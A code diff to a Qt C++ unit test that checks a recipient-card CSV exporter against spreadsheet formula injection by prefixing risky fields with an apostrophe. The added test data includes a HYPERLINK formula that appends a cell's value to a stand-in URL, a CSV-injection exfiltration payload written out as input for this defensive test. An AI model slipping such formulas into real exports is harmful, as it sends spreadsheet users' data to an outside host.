@@ -268,6 +268,10 @@ private slots:
             {u"Jean Martin"_s, QString(), QString(), u"69002 Lyon"_s, QString(), u"M."_s, u"Directeur \"adjoint\""_s},
             {u"Œdipe Ÿvon"_s, u"5 quai €uro"_s, QString(), u"2A004 Ajaccio"_s, u"Corse"_s, u"Monsieur"_s,
              u"Président, fondateur"_s},
+            // What a spreadsheet would compute, and apostrophes of the user's own.
+            {u"@Alice Roy"_s, u"-12 rue du Moulin"_s, u"+33 1 23 45 67 89"_s, u"75001 Paris"_s,
+             u"=HYPERLINK(\"http://x.fr/\"&A1)"_s, u"Madame"_s, u"'=déjà écrit en texte"_s},
+            {u"Zoé Roy"_s, u"'12 rue"_s, QString(), u"75002 Paris"_s, u"'"_s, u"Mme"_s, u"''-"_s},
         };
         const QDir cardFolder(DataPaths::recipientsFolder());
         for (const QStringList &card : cards)
@@ -275,12 +279,15 @@ private slots:
 
         const QString path = folder.filePath(u"export.csv"_s);
         QString error;
-        QVERIFY(
-            RecipientCards::exportCards(path, {cards.at(0).first(), cards.at(1).first(), cards.at(2).first()}, &error));
+        QVERIFY(RecipientCards::exportCards(path, {cards[0][0], cards[1][0], cards[2][0], cards[3][0], cards[4][0]},
+                                            &error));
         const QByteArray bytes = QuilloTest::readBytes(path);
         QVERIFY(bytes.startsWith("\xEF\xBB\xBF"
                                  "Nom et pr\xC3\xA9nom;Adresse postale;R\xC3\xA9sidence;Code Postal - Ville;"
                                  "Province / Pays;Qualificatif;Fonction\r\n"));
+        // No field starts as a formula would.
+        QVERIFY(bytes.contains("\r\n'@Alice Roy;'-12 rue du Moulin;'+33 1 23 45 67 89;75001 Paris;"
+                               "\"'=HYPERLINK(\"\"http://x.fr/\"\"&A1)\";Madame;''=d\xC3\xA9j\xC3\xA0"));
 
         const Recipients::Mapped mapped = mapFile(path);
         QList<QStringList> readBack;
@@ -294,7 +301,7 @@ private slots:
         const QByteArray before = QuilloTest::readBytes(cardFolder.filePath(cards.at(0).first() + u".ini"_s));
         QVERIFY(RecipientCards::importRows(mapped.rows, RecipientCards::ExistingCard::Replace).ok());
         QCOMPARE(QuilloTest::readBytes(cardFolder.filePath(cards.at(0).first() + u".ini"_s)), before);
-        QCOMPARE(cardsOnDisk().size(), 3);
+        QCOMPARE(cardsOnDisk().size(), cards.size());
 
         // A file that cannot be written is reported and nothing is left behind.
         const QString unwritable = folder.filePath(u"absent/export.csv"_s);
